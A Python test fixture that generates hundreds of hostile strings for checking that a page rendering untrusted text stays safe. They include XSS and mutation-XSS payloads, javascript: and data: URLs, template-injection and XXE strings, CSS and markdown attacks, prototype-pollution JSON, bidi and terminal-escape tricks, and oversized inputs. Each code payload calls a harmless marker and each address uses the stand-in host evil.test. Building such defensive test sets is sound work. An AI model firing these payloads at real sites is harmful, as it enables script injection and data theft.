"""What a model, a server or a stranger may have written: texts that a careless page would run, fetch or break under.

Each attack that is code calls `romaRan()`, and each that is an address names `evil.test`: a test watches for both.
"""

from __future__ import annotations

from itertools import chain, product

RUN = "romaRan()"
EVIL = "//evil.test/x"

_EVENTS = "onload onerror onclick onmouseover onfocus onpointerenter onanimationstart ontoggle".split()
_CARRIERS = [
    "<img src=x {}>",
    "<svg {}><animate attributeName=x dur=1s></svg>",
    "<details open {}>x</details>",
    "<input autofocus {}>",
    '"><b style="animation:rw-wander 1s" {}>x</b>',
    "' autofocus tabindex=0 {} x='",
]

_MARKUP = f"""
<script>{RUN}</script>
</script><script>{RUN}</script>
--></script><script>{RUN}</script><!--
<ScRiPt src={EVIL}></sCrIpT>
<script type=module>import "http:{EVIL}"</script>
<iframe src="javascript:parent.{RUN}"></iframe>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<object data="javascript:{RUN}"></object>
<embed src={EVIL}>
<link rel=stylesheet href={EVIL}>
<link rel=preload as=image href={EVIL}>
<base href=http:{EVIL}/>
<meta http-equiv=refresh content="0;url=http:{EVIL}">
<style>@import "http:{EVIL}"; * {{ display: none !important }}</style>
</style><style>body {{ background: url(http:{EVIL}) }}</style>
<form action=http:{EVIL}><button autofocus>go</button></form>
<video poster=http:{EVIL} src=http:{EVIL} autoplay></video>
<audio src=http:{EVIL} autoplay onerror={RUN}></audio>
<picture><source srcset=http:{EVIL}><img srcset=http:{EVIL}></picture>
<table background=http:{EVIL}><td background=http:{EVIL}>x</table>
<template><img src=x onerror={RUN}></template>
<noscript><p title="</noscript><img src=x onerror={RUN}>">
<svg><script>{RUN}</script></svg>
<svg><image href=http:{EVIL} /><use href="data:image/svg+xml,x#x" /></svg>
<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>
<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>
<svg><style><img src="</style><img src=x onerror={RUN}>"></svg>
<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>
<math href="javascript:{RUN}"><mi>x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>
<![CDATA[<img src=x onerror={RUN}>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http:{EVIL}">]><x>&e;</x>
&lt;img src=x onerror={RUN}&gt;
&#60;script&#62;{RUN}&#60;/script&#62;
</div></div></section></main></body></html><h1>over
</textarea><img src=x onerror={RUN}>
</title><img src=x onerror={RUN}>
</pre></code></option></select><img src=x onerror={RUN}>
" onmouseover="{RUN}
' onfocus='{RUN}' autofocus='
`${{{RUN}}}`
{{{{constructor.constructor("{RUN}")()}}}}
${{constructor.constructor("{RUN}")()}}
<%= {RUN} %>
#{{{RUN}}}
[[${{{RUN}}}]]
""".strip().splitlines()

_SCHEMES = f"""
javascript:{RUN}
JaVaScRiPt:{RUN}
java&#10;script:{RUN}
&#106;avascript:{RUN}
javascript://%0a{RUN}
vbscript:{RUN}
data:text/html,<script>parent.{RUN}</script>
data:text/html;base64,PHNjcmlwdD5yb21hUmFuKCk8L3NjcmlwdD4=
data:image/svg+xml,<svg/onload={RUN}>
blob:http:{EVIL}
file:///etc/passwd
http:{EVIL}
{EVIL}
\\\\evil.test\\x
""".strip().splitlines()

_MARKDOWN = f"""
[x](<javascript:{RUN}>)
![x](http:{EVIL} "{EVIL}")
[![x](http:{EVIL})](http:{EVIL})
[x]: javascript:{RUN}
<http:{EVIL}>
http:{EVIL} and www.evil.test
| a | b |||||||||||||||||||||||||||||||||||||||||
{"> " * 400}deep
{"- " * 400}deep
{"[" * 2000}
{"![" * 1000}
{"*" * 3000}
{"`" * 3001}
{"_a" * 2000}
```html <img src=x onerror={RUN}>
~~~<script>{RUN}</script>
# <img src=x onerror={RUN}>
$$\\href{{javascript:{RUN}}}{{x}}$$
""".strip().splitlines()

_STYLES = f"""
\\3c script\\3e {RUN}
expression({RUN})
x; background: url(http:{EVIL})
}} * {{ display: none }} .x {{
"; content: url(http:{EVIL}); "
position:fixed;inset:0;z-index:99999
-moz-binding:url(http:{EVIL})
""".strip().splitlines()

_NAMES = """
__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ then toJSON length key ref children
dangerouslySetInnerHTML undefined null NaN true -0 1e999 DONE FAILED UNKNOWN RUNNING
""".split()

_BIDI = [
    f"\u202dleft {mark}desrever {mark}" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200f\u061c"
]
_UNSEEN = [
    f"a{mark * 60}b{mark}"
    for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u3164\u034f\u2028\u2029\u0085"
]
_CONTROLS = [
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "\x1b]8;;http://evil.test/x\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07\x9b31m",
    "".join(map(chr, range(1, 32))),
    "a\rb\r\nc\vd\fe\x00f\x7f",
    "\t" * 400,
    "\n" * 400 + "under all of it",
    " " * 4000 + "far",
]
_SIGNS = [
    "Z" + "\u0335\u0321\u0489\u0353\u0347" * 200,
    "a\u0488\u20dd\u20e3" * 40,
    "\ud800 half a pair \udfff",
    "👩\u200d👩\u200d👧\u200d👦" * 60,
    "\U000e0041\U000e0042\U000e007f hidden tags",
    "﷽" * 80,
    "שלום עולם (1) [2] <3> 4 - 5",
    "مرحبا بالعالم 123 abc",
    "�\uffff\ufffe",
    "〱" * 300,
    "Ｈ\u0327" * 100,
]
_LONG = [
    "x" * 1_000_000,
    "<b>" * 33_000,
    "a b " * 25_000,
    "/".join(["https:"] + ["evil.test"] * 500),
    "W" * 5000,
    '{"a":' * 5000,
    "[" * 50_000 + "]" * 50_000,
    '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "<b>x</b>": "<i>y</i>"}',
    "\u202e" + "y" * 3000,
    "\n".join(["| x | y |", "|---|---|", *["| <b>x</b> | y |"] * 3000]),
]


def hostile() -> list[str]:
    """At least 200 different texts."""
    handlers = [carrier.format(f"{event}={RUN}") for carrier, event in product(_CARRIERS, _EVENTS)]
    links = [f"[click]({scheme})" for scheme in _SCHEMES]
    groups = (
        _MARKUP,
        handlers,
        _SCHEMES,
        links,
        _MARKDOWN,
        _STYLES,
        _NAMES,
        _BIDI,
        _UNSEEN,
        _CONTROLS,
        _SIGNS,
        _LONG,
    )
    return list(dict.fromkeys(chain.from_iterable(groups)))
